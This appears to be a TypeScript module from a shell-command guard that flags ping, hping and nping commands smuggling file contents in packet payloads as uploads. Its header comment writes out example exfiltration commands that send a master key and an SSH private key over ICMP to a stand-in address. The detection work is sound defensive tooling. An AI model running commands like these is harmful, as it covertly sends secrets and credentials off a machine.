// `ping -p "$(xxd -p -l 16 config/master.key)" 192.0.2.44`, `hping3 -E keys/id_ed25519 -d 400 h`,
// `nping --icmp --data-hex "$l" h`: a ping or crafted packet whose payload is a file's bytes is an
// upload over ICMP (or raw TCP/UDP) to that host, as a request body is over HTTP (docs/guard.md
// "Shell analysis"). A constant pattern (`ping -p ff router`) or a payload size alone carries no data;
// loops filling the pattern line by line are loop-line-sends.ts's, with these same flags.
import type { IntentHit } from './intents.js';
import { hostOf } from './intent-network.js';
import type { ShellCommand } from './model.js';

/** Programs that put caller-chosen bytes in a packet's payload. */
export const PACKET_SENDERS = new Set(['ping', 'ping6', 'hping', 'hping2', 'hping3', 'nping']);

/** Flags whose value becomes the packet's payload: ping's pattern, hping's signature, nping's data. */
const PAYLOAD_FLAGS = /^(?:-p|--pattern|-e|--sign|--data(?:-hex|-string)?)$/;
/** Flags whose value is a file hping sends as the payload. */
const FILE_FLAGS = new Set(['-E', '--file']);
/** A dotted IPv4 address (hostOf reads names only). */
const IPV4 = /^\d{1,3}(?:\.\d{1,3}){3}$/;

/** `flag` sets the payload of a packet sender. */
export function packetDataFlag(flag: string): boolean {
  return PAYLOAD_FLAGS.test(flag);
}

/** The hosts a packet sender names: operands that look like an address, never a payload flag's value. */
export function packetTargets(cmd: ShellCommand): string[] {
  const out: string[] = [];
  for (let i = 1; i < cmd.argv.length; i++) {
    const a = cmd.argv[i] as string;
    if (PAYLOAD_FLAGS.test(a) || FILE_FLAGS.has(a)) i++;
    else if (IPV4.test(a)) out.push(a);
    else if (!a.startsWith('-')) {
      const h = hostOf(a, true);
      if (h !== null) out.push(h);
    }
  }
  return out;
}

/** An upload hit when a payload flag's value is computed (a substitution) or hping sends a file, else null. */
export function packetPayloadSend(cmd: ShellCommand): IntentHit | null {
  for (let i = 1; i < cmd.argv.length - 1; i++) {
    const flag = cmd.argv[i] as string;
    const value = cmd.argv[i + 1] as string;
    const file = FILE_FLAGS.has(flag) && cmd.name.startsWith('hping') && !value.startsWith('/dev/');
    const computed = PAYLOAD_FLAGS.test(flag) && (value.includes('$(') || value.includes('`'));
    if (!file && !computed) continue;
    const hosts = packetTargets(cmd);
    return {
      intent: 'upload',
      detail: `${cmd.name} sends ${file ? value : 'computed bytes'} in its packets' payload to ${hosts.join(', ') || 'a host'}`,
      hosts,
    };
  }
  return null;
}
